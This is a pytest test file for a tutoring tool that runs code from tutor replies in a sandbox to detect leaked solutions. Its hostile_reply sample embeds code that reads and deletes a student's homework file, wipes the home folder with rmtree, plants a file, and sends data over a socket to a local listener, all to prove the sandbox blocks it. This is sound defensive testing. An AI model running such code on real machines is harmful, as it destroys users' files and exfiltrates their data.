"""The execution layer: reply code run against the hidden tests in strict isolation only — it
settles leaks and wrong attempts, and hostile code reaches neither the home folder nor the
network; where strict isolation is unavailable the layer is off and says why."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from tutor.core.guard import HiddenTests, Reference, check_leak, execution_available
from tutor.core.practice.runner import FunctionCase, Limits, StdioCase, languages

pytestmark = pytest.mark.skipif(
    not execution_available()[0], reason="strict isolation is unavailable here"
)

REFERENCE = Reference(
    "def lonely_number(nums):\n    x = 0\n    for n in nums:\n        x ^= n\n    return x\n",
    "python",
    "accepted.py",
)
CASES = [
    FunctionCase("one", [[4, 1, 2, 1, 2]], 4),
    FunctionCase("single", [[7]], 7),
    FunctionCase("negative", [[-3, 5, 5]], -3),
    FunctionCase("zero", [[0, 9, 9]], 0),
    FunctionCase("late", [[2, 2, 3, 3, 11]], 11),
]
TESTS = HiddenTests(CASES, Limits(time_limit=2))


def check(reply: str, **kw: object) -> object:
    return check_leak(
        reply, [REFERENCE], tests=TESTS, entry_point="lonely_number", kind="function", **kw
    )


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    yield server
    server.close()


def hostile_reply(home: Path, canary: Path, port: int) -> str:
    """A solution that also tries to read and delete the student's files and to phone home; it
    passes the tests only when it read nothing (what it stole would be its answer)."""
    return f"""Here is a complete answer:

```python
import pathlib, shutil, socket

STOLEN = []
for target in (pathlib.Path({str(canary)!r}), pathlib.Path.home() / {canary.name!r}):
    try:
        STOLEN.append(target.read_text())
        target.unlink()
    except OSError:
        pass
shutil.rmtree({str(home)!r}, ignore_errors=True)
try:
    pathlib.Path({str(home)!r}, "planted.txt").write_text("was here")
except OSError:
    pass
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as sock:
        sock.sendall(b"the student's files")
except OSError:
    pass


def lonely_number(nums):
    if STOLEN:
        return "stolen: " + " ".join(STOLEN)
    seen = 0
    for value in nums:
        seen ^= value
    return seen
```
"""


def test_hostile_code_runs_but_reaches_neither_the_home_nor_the_network(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, listener: socket.socket
) -> None:
    home = tmp_path / "home-of-the-student"
    home.mkdir()
    canary = home / "homework.txt"
    canary.write_text("my own work")
    monkeypatch.setenv("HOME", str(home))
    port = listener.getsockname()[1]
    report = check(hostile_reply(home, canary, port))
    assert report.leak and "block 1 passed 100% of the hidden tests" in report.reasons
    assert canary.read_text() == "my own work"
    assert sorted(p.name for p in home.iterdir()) == ["homework.txt"]
    with pytest.raises(BlockingIOError):
        listener.accept()  # nobody ever connected


def test_a_complete_but_wrong_attempt_is_cleared_by_running_it() -> None:
    wrong = "```python\ndef lonely_number(nums):\n    return max(nums)\n```"
    report = check(wrong)
    assert not report.leak
    assert any("not a solution" in r for r in report.reasons)
    without = check_leak(wrong, [REFERENCE], entry_point="lonely_number", kind="function")
    assert without.leak and without.kind == "complete"  # shape alone cannot tell


def test_another_name_another_approach_another_language() -> None:
    renamed = (
        "```python\nfrom functools import reduce\n\ndef solve(values):\n"
        "    return reduce(lambda a, b: a ^ b, values, 0)\n```"
    )
    report = check(renamed)
    assert report.leak and report.kind == "complete"
    assert "block 1 passed 100% of the hidden tests" in report.reasons
    js = (
        "```js\nconst lonelyNumber = (nums) => {\n  const counts = new Map();\n"
        "  for (const n of nums) counts.set(n, (counts.get(n) || 0) + 1);\n"
        "  for (const [n, c] of counts) if (c === 1) return n;\n};\n```"
    )
    report = check(js)
    assert report.leak and report.kind == "port"
    assert "block 1 passed 100% of the hidden tests" in report.reasons


def test_blocks_joined_run_as_one_program() -> None:
    reply = (
        "```python\ndef lonely_number(nums):\n    acc = 0\n```\nthen\n"
        "```python\n    for n in nums:\n        acc = acc ^ n\n    return acc\n```"
    )
    report = check(reply)
    assert report.leak and report.kind == "skeleton" and len(report.spans) == 2
    assert "blocks 1, 2 joined passed 100% of the hidden tests" in report.reasons


def test_the_students_own_passing_code_means_nothing_can_leak() -> None:
    solved = "def lonely_number(nums):\n    return sum(set(nums)) * 2 - sum(nums)\n"
    other = (
        "```python\ndef lonely_number(nums):\n    return sum(set(nums)) * 2 - sum(nums) + 0\n```"
    )
    assert check(other).leak
    report = check(other, student_code=[solved])
    assert not report.leak and "already passes the hidden tests" in report.reasons[0]


def test_stdio_programs_in_compiled_languages_are_run_too() -> None:
    cpp = (
        "```cpp\n#include <iostream>\nint main() {\n  long long a, b;\n"
        "  while (std::cin >> a >> b) {\n    std::cout << a + b << std::endl;\n  }\n}\n```"
    )
    sums = HiddenTests([StdioCase("a", b"1 2\n", b"3\n"), StdioCase("b", b"40 2\n", b"42\n")])
    reference = Reference("a, b = map(int, input().split())\nprint(a + b)\n", "python")
    report = check_leak(cpp, [reference], tests=sums, entry_point=None, kind="stdio")
    assert report.leak and report.kind == "port"
    assert "block 1 passed 100% of the hidden tests" in report.reasons


@pytest.mark.skipif(not languages()["go"].available, reason=str(languages()["go"].missing))
def test_a_go_port_of_a_stdio_solution_is_compiled_and_run_too() -> None:
    go = (
        '```go\npackage main\n\nimport "fmt"\n\nfunc main() {\n\tvar a, b int64\n'
        "\tfor {\n\t\tif _, err := fmt.Scan(&a, &b); err != nil {\n\t\t\tbreak\n\t\t}\n"
        "\t\tfmt.Println(a OP b)\n\t}\n}\n```"
    )
    sums = HiddenTests([StdioCase("a", b"1 2\n", b"3\n"), StdioCase("b", b"40 2\n", b"42\n")])
    reference = Reference("a, b = map(int, input().split())\nprint(a + b)\n", "python")
    report = check_leak(
        go.replace("OP", "+"), [reference], tests=sums, entry_point=None, kind="stdio"
    )
    assert report.leak and report.kind == "port"
    assert "block 1 passed 100% of the hidden tests" in report.reasons
    wrong = check_leak(
        go.replace("OP", "-"), [reference], tests=sums, entry_point=None, kind="stdio"
    )
    assert not wrong.leak
    assert any("not a solution" in r for r in wrong.reasons)


def test_without_strict_isolation_the_layer_is_off_and_says_why(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, listener: socket.socket
) -> None:
    monkeypatch.setenv("TUTOR_STRICT_SANDBOX", "none-such")
    on, why = execution_available()
    assert not on and why.startswith("code in replies is not run: ")
    assert "TUTOR_STRICT_SANDBOX=none-such" in why
    home = tmp_path / "student-home"
    home.mkdir()
    canary = home / "homework.txt"
    canary.write_text("my own work")
    report = check(hostile_reply(home, canary, listener.getsockname()[1]))
    assert report.leak and not any("hidden tests" in r for r in report.reasons)
    assert canary.read_text() == "my own work"


def test_a_reply_of_many_blocks_runs_only_the_first_few() -> None:
    blocks = [f"```python\ndef helper_{i}(x):\n    return x + {i}\n```" for i in range(11)]
    report = check("\n\n".join(blocks))
    assert not report.leak
    assert "blocks 9–11 were not run (at most 8 blocks a reply)" in report.reasons
